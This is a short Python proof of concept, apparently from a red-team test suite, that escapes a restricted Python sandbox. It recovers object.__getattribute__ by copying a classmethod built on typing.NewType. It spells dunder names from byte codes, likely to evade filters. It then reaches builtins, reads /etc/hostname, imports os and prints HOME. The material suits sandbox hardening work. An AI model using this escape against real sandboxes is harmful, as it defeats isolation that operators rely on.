# family: red team, round 36 (copy.copy of a classmethod whose function is a NewType: method.__reduce__ is getattr(cls, __name__))
import copy
import typing


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


def as_lookup(fn):
    return typing.NewType(dunder("getattribute"), int)


class Box:
    @classmethod
    @as_lookup
    def lookup(cls):
        return 1


def main():
    fetch = copy.copy(Box.lookup)  # getattr(Box, "__getattribute__"): object.__getattribute__
    namespace = fetch(main, dunder("globals"))
    print(namespace["copy"])
    builtins = namespace[dunder("builtins")]
    print(fetch(builtins, "open")("/etc/hostname").read())
    system = fetch(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
